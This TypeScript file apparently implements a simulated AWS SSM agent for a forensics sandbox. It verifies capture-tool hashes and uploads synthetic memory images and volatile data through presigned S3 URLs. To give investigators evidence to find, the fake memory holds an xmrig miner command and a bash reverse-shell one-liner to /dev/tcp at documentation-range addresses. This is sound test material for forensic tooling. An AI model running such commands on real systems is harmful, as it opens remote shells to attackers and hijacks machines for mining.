// The simulated SSM agent: runs Custody's documents on a scenario instance, uploading through presigned URLs as the real scripts do.
import { createHash } from 'node:crypto';
import { createReadStream } from 'node:fs';
import { awsError } from './errors';
import { actionMatches } from './iam-actions';
import type { PresignedGrant } from './presigned-url';
import { verifyPresignedUrl } from './presigned-url';
import type { Sandbox } from './sandbox';
import type { InstanceState } from './scenario';
import { findUpload, uploadPart } from './s3-multipart';
import { s3Store } from './s3-store';
import { VOLATILE_ARTIFACTS, volatileData } from './ssm-volatile';
import { examineOnWorkstation } from './workstation-agent';

export const MIB = 1024 * 1024;

export interface AgentRequest {
  readonly sandbox: Sandbox;
  readonly accountId: string;
  readonly region: string;
  readonly instance: InstanceState;
  readonly documentName: string;
  readonly parameters: Readonly<Record<string, readonly string[]>>;
}

export interface AgentResult {
  readonly status: 'Success' | 'Failed';
  readonly responseCode: number;
  readonly stdout: string;
  readonly stderr: string;
}

/** The capture tools as the sandbox stages them: stand-in bytes whose SHA-256 plays the role of the pinned release hash. */
export const SANDBOX_TOOLS = {
  linux: {
    key: 'tools/avml-v0.14.0',
    name: 'avml',
    version: '0.14.0',
    bytes: Buffer.from('AVML v0.14.0 x86_64-unknown-linux-musl (sandbox stand-in)\n'),
  },
  windows: {
    key: 'tools/winpmem_mini_x64_rc2.exe',
    name: 'winpmem',
    version: '4.0.rc2',
    bytes: Buffer.from('WinPMEM mini x64 rc2 (sandbox stand-in)\n'),
  },
} as const;

export function toolSha256(platform: 'linux' | 'windows'): string {
  return createHash('sha256').update(SANDBOX_TOOLS[platform].bytes).digest('hex');
}

/** What operators do once per forensics bucket: stage the capture tools (docs/disk-and-memory.md). */
export async function stageCaptureTools(sandbox: Sandbox, bucket: string): Promise<void> {
  for (const tool of Object.values(SANDBOX_TOOLS))
    await s3Store(sandbox).putObject(bucket, tool.key, tool.bytes, { checksumAlgorithm: 'SHA256' });
}

export class CommandFailure extends Error {
  public constructor(
    public readonly responseCode: number,
    message: string,
  ) {
    super(message);
  }
}

export async function runDocument(request: AgentRequest): Promise<AgentResult> {
  const out: string[] = [];
  const { instance } = request;
  try {
    if (instance.ssm.behaviour === 'fail')
      throw new CommandFailure(
        1,
        'failed to run commands: exit status 1 (the capture tool could not read physical memory)',
      );
    if (/MemoryCapture$/.test(request.documentName)) await captureMemory(request, out);
    else if (/VolatileData$/.test(request.documentName)) await collectVolatile(request, out);
    else if (/^Custody-Workstation/.test(request.documentName)) await examineOnWorkstation(request, out);
    else throw new CommandFailure(1, `the sandbox agent cannot run document ${request.documentName}`);
    return { status: 'Success', responseCode: 0, stdout: out.join('\n'), stderr: '' };
  } catch (error) {
    const code = error instanceof CommandFailure ? error.responseCode : 1;
    const message =
      error instanceof Error ? `${error.name === 'Error' ? '' : `${error.name}: `}${error.message}` : String(error);
    return { status: 'Failed', responseCode: code, stdout: out.join('\n'), stderr: message };
  }
}

export function param(request: AgentRequest, name: string): string {
  const value = request.parameters[name]?.[0];
  if (value === undefined) throw new CommandFailure(1, `document parameter ${name} is missing`);
  return value;
}

/** The grant's principal must be allowed the S3 action on a bucket of its own account, as the bucket policy allows the writer role. */
export function authorise(sandbox: Sandbox, grant: PresignedGrant, action: string): void {
  const owner = s3Store(sandbox).findBucket(grant.bucket)?.owner;
  const role = sandbox.account(grant.caller.accountId)?.roles.find((r) => r.roleName === grant.caller.roleName);
  if (
    !owner ||
    owner.accountId !== grant.caller.accountId ||
    role?.deny.some((pattern) => actionMatches(pattern, action))
  ) {
    throw awsError('AccessDenied', 'Access Denied', { httpStatusCode: 403 });
  }
}

export async function httpFailure(what: string, error: unknown): Promise<never> {
  const name = error instanceof Error ? error.name : 'Error';
  const message = error instanceof Error ? error.message : String(error);
  throw new CommandFailure(22, `${what} failed: HTTP 403 ${name}: ${message}`);
}

/** Downloads the staged tool through its presigned GET URL and refuses to run it unless its SHA-256 is the pinned one. */
async function fetchTool(request: AgentRequest, out: string[]): Promise<void> {
  const expected = param(request, 'toolSha256');
  let path: string;
  try {
    const grant = verifyPresignedUrl(request.sandbox, 'GET', param(request, 'toolUrl'));
    authorise(request.sandbox, grant, 's3:GetObject');
    path = s3Store(request.sandbox).version(grant.bucket, grant.key).path;
  } catch (error) {
    return httpFailure('downloading the capture tool', error);
  }
  const hash = createHash('sha256');
  for await (const chunk of createReadStream(path)) hash.update(chunk as Buffer);
  const actual = hash.digest('hex');
  if (actual !== expected) {
    out.push(`custody: capture tool hash mismatch: expected ${expected} got ${actual}; refusing to run it`);
    throw new CommandFailure(3, 'capture tool hash mismatch');
  }
  out.push(`custody: tool sha256=${actual} verified`);
}

/** Deterministic memory contents: a seeded 1 MiB block, each MiB stamped with its index, the story's strings in MiB 1. */
export function memoryImage(instance: InstanceState): {
  size: number;
  chunks(start: number, end: number): Generator<Buffer>;
} {
  const size = instance.memoryMiB * MIB;
  const seed = createHash('sha256').update(`custody-sandbox-memory:${instance.instanceId}`).digest();
  const base = Buffer.alloc(MIB);
  for (let offset = 0; offset < MIB; offset += 32)
    createHash('sha256').update(seed).update(String(offset)).digest().copy(base, offset);
  const story = Buffer.from(
    '\0xmrig -o 192.0.2.77:3333 --donate-level 1\0bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\0',
  );
  const mib = (index: number): Buffer => {
    const block = Buffer.from(base);
    createHash('sha256').update(seed).update(`mib:${index}`).digest().copy(block, 0);
    if (index === 1) story.copy(block, 4096);
    if (index === 0 && instance.platform === 'linux') lime(size).copy(block, 0);
    return block;
  };
  return {
    size,
    *chunks(start: number, end: number) {
      for (let index = Math.floor(start / MIB); index * MIB < end; index += 1) {
        const block = mib(index);
        yield block.subarray(Math.max(0, start - index * MIB), Math.min(MIB, end - index * MIB));
      }
    },
  };
}

/** A LiME range header (magic "EMiL", version 1, start and end physical address), as AVML writes before each range. */
function lime(size: number): Buffer {
  const header = Buffer.alloc(32);
  header.writeUInt32LE(0x4c694d45, 0);
  header.writeUInt32LE(1, 4);
  header.writeBigUInt64LE(0n, 8);
  header.writeBigUInt64LE(BigInt(size - 33), 16);
  return header;
}

/** PUTs one part through its presigned UploadPart URL; returns the part's SHA-256 (base64) as the script prints it. */
export async function putPart(
  request: AgentRequest,
  url: string,
  chunks: Iterable<Buffer>,
  full?: ReturnType<typeof createHash>,
): Promise<{ bytes: number; sha256: string }> {
  const partHash = createHash('sha256');
  let bytes = 0;
  async function* body(): AsyncGenerator<Uint8Array> {
    for (const chunk of chunks) {
      partHash.update(chunk);
      full?.update(chunk);
      bytes += chunk.length;
      yield chunk;
    }
  }
  try {
    const grant = verifyPresignedUrl(request.sandbox, 'PUT', url);
    authorise(request.sandbox, grant, 's3:PutObject');
    const store = s3Store(request.sandbox);
    await uploadPart(
      store,
      findUpload(store, grant.bucket, grant.key, grant.params.uploadId),
      Number(grant.params.partNumber),
      body(),
      {},
    );
  } catch (error) {
    return httpFailure(`uploading to ${new URL(url).pathname}`, error);
  }
  return { bytes, sha256: partHash.digest('base64') };
}

async function captureMemory(request: AgentRequest, out: string[]): Promise<void> {
  await fetchTool(request, out);
  const urls = param(request, 'partUrls').split(/\s+/).filter(Boolean);
  const partSize = Number(param(request, 'partSizeBytes'));
  const image = memoryImage(request.instance);
  const name = request.instance.platform === 'windows' ? 'memory.raw' : 'memory.lime';
  const parts = Math.ceil(image.size / partSize);
  if (parts > urls.length)
    throw new CommandFailure(
      4,
      `image of ${image.size} bytes needs ${parts} parts but only ${urls.length} upload URLs were given`,
    );
  const full = createHash('sha256');
  for (let n = 1; n <= parts; n += 1) {
    if (request.instance.ssm.behaviour === 'dies-mid-capture' && n > Math.ceil(parts / 2)) {
      request.instance.ssm.online = false;
      throw new CommandFailure(-1, 'amazon-ssm-agent stopped responding during the capture');
    }
    const chunks = image.chunks((n - 1) * partSize, Math.min(n * partSize, image.size));
    const part = await putPart(request, urls[n - 1], chunks, full);
    out.push(`custody: part object=${name} n=${n} bytes=${part.bytes} sha256=${part.sha256}`);
  }
  out.push(`custody: object name=${name} bytes=${image.size} sha256=${full.digest('hex')} parts=${parts}`);
}

const VOLATILE_PARAMETERS: Readonly<Record<string, string>> = {
  'processes.txt': 'processesUrl',
  'sockets.txt': 'socketsUrl',
  'users.txt': 'usersUrl',
  'logins.txt': 'loginsUrl',
  'modules.txt': 'modulesUrl',
  'scheduled-tasks.txt': 'scheduledTasksUrl',
};

async function collectVolatile(request: AgentRequest, out: string[]): Promise<void> {
  const data = volatileData(request.instance, request.sandbox.regionState(request.accountId, request.region));
  for (const name of VOLATILE_ARTIFACTS) {
    const bytes = Buffer.from(data[name]);
    const part = await putPart(request, param(request, VOLATILE_PARAMETERS[name]), [bytes]);
    out.push(`custody: part object=${name} n=1 bytes=${part.bytes} sha256=${part.sha256}`);
    out.push(
      `custody: object name=${name} bytes=${bytes.length} sha256=${createHash('sha256').update(bytes).digest('hex')} parts=1`,
    );
  }
}
